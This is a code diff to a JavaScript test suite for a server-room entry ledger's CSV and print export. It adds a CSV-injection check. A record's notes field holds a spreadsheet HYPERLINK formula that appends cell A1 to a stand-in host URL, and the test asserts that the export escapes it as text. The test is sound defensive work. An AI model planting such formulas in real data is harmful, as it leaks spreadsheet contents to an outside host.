@@ -20,7 +20,9 @@ describe('printed ledgers and CSV (issue 12)', () => {
     const { c, d, sm, clerk, hq, osaka, yamada, sasaki } = f;
     const tricky = '配線の変更, "ラックA" の確認\n2行目';
     const a = await clerk.ok('serverRoom.record', { siteId: hq.id, personId: yamada.id, enteredAt: jst('2026-10-20', '08:30'), exitedAt: jst('2026-10-20', '08:50'), purpose: 'maintenance', notes: tricky });
-    const b = await clerk.ok('serverRoom.record', { siteId: hq.id, personId: sasaki.id, enteredAt: jst('2026-10-20', '08:40'), exitedAt: jst('2026-10-20', '08:55'), purpose: 'maintenance' });
+    // Typed to run as a formula when the CSV is opened in a spreadsheet (CSV injection): kept as text.
+    const formula = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")';
+    const b = await clerk.ok('serverRoom.record', { siteId: hq.id, personId: sasaki.id, enteredAt: jst('2026-10-20', '08:40'), exitedAt: jst('2026-10-20', '08:55'), purpose: 'maintenance', notes: formula });
     await clerk.ok('serverRoom.void', { id: b.id, reason: '二重登録' });
     await clerk.ok('serverRoom.amend', { id: a.id, changes: { purpose: 'equipment' }, reason: '目的の選択誤り' });
     c.set(jst('2026-11-05', '10:00'));
@@ -64,6 +66,8 @@ describe('printed ledgers and CSV (issue 12)', () => {
     expect(rows).toHaveLength(3);
     expect(rows.map((r) => r.length)).toEqual([rows[0].length, rows[0].length, rows[0].length]);
     expect(rows.some((r) => r.includes(tricky))).toBe(true);
+    expect(rows.some((r) => r.includes(`'${formula}`))).toBe(true);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
 
     // The print layout: title, period, the seal, voided rows struck; and 未確認 for a month not signed.
     const html = sheetHtml(sheet);
